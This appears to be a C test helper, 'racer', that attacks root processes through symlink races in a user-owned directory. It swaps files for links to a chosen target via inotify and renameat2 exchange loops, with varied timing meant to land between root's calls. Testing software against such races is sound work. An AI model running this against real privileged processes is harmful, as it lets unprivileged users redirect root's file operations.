/*
 * A user who disturbs root in a directory of the user's own. Ends when its standard input is closed.
 *
 * racer UID DIRECTORY TARGET: waits until a file is made there, or renamed to there, moves it away, and puts a link to TARGET in its place for a moment.
 * racer UID DIRECTORY TARGET NAME exchange: NAME is what is there and a link to TARGET in turn, some 100,000 times a second.
 * racer UID DIRECTORY TARGET NAME appear: NAME is nothing and a link to TARGET in turn; what root makes of that name is moved away.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static int ended(void) {
  struct pollfd input = {.fd = 0, .events = POLLIN};
  return poll(&input, 1, 0) != 0;
}

static void discard(const char *name, unsigned long round) {
  char aside[64];
  if (unlink(name) == 0 || rmdir(name) == 0) return;
  snprintf(aside, sizeof aside, ".aside%lu", round);
  rename(name, aside);
}

/* Some microseconds, each time another number of them, so that the changes fall between each two of root's calls sometime. */
static void dwell(unsigned long round) {
  for (unsigned long i = (round * 7 + 3) % 16; i > 0; i--) ended();
}

/* What root finds under `name` changes all the time, so that two calls in a row seldom see the same. */
static void spin(const char *target, const char *name, int appear) {
  for (unsigned long round = 0; round % 64 != 0 || !ended(); round++) {
    struct stat found;
    if (lstat(".link", &found) == 0 && !S_ISLNK(found.st_mode)) discard(".link", round);
    if (symlink(target, ".link") != 0 && errno != EEXIST) return;
    if (renameat2(AT_FDCWD, ".link", AT_FDCWD, name, RENAME_NOREPLACE) != 0 &&
        renameat2(AT_FDCWD, ".link", AT_FDCWD, name, RENAME_EXCHANGE) != 0) continue;
    /* The link is there now, and what was there, if anything, is called ".link". */
    if (appear && lstat(".link", &found) == 0) discard(".link", round);
    dwell(round);
    if (renameat2(AT_FDCWD, name, AT_FDCWD, ".link", RENAME_NOREPLACE) != 0)
      renameat2(AT_FDCWD, name, AT_FDCWD, ".link", RENAME_EXCHANGE);
    dwell(round * 5);
  }
}

int main(int argc, char **argv) {
  if (argc != 4 && argc != 6) return 2;
  uid_t uid = atoi(argv[1]);
  if (setgroups(0, NULL) != 0 || setgid(uid) != 0 || setuid(uid) != 0 || chdir(argv[2]) != 0) return 3;
  const char *target = argv[3];
  if (argc == 6) {
    if (write(1, "ready\n", 6) != 6) return 5;
    spin(target, argv[4], strcmp(argv[5], "appear") == 0);
    return 0;
  }
  int watch = inotify_init1(IN_NONBLOCK);
  if (inotify_add_watch(watch, ".", IN_CREATE | IN_MODIFY | IN_MOVED_TO | IN_ATTRIB) < 0) return 4;
  if (write(1, "ready\n", 6) != 6) return 5;
  unsigned long rounds = 0, swapped = 0;
  char buffer[65536] __attribute__((aligned(8)));
  for (;;) {
    struct pollfd fds[2] = {{.fd = watch, .events = POLLIN}, {.fd = 0, .events = POLLIN}};
    poll(fds, 2, 1000);
    if (fds[1].revents != 0) break;
    ssize_t length = read(watch, buffer, sizeof buffer);
    for (char *at = buffer; at < buffer + length;) {
      struct inotify_event *event = (struct inotify_event *)at;
      at += sizeof *event + event->len;
      struct stat found;
      if (event->len == 0 || strcmp(event->name, "aside") == 0) continue;
      if (lstat(event->name, &found) != 0 || S_ISLNK(found.st_mode)) continue;
      rounds++;
      if (rename(event->name, "aside") != 0) continue;
      if (symlink(target, event->name) != 0) continue;
      swapped++;
      /* Root sees the link for a while, then the file again, as if nothing had been. */
      for (int i = 0; i < (int)(rounds % 7); i++) usleep(150);
      rename("aside", event->name);
    }
  }
  fprintf(stderr, "%lu %lu\n", rounds, swapped);
  return 0;
}
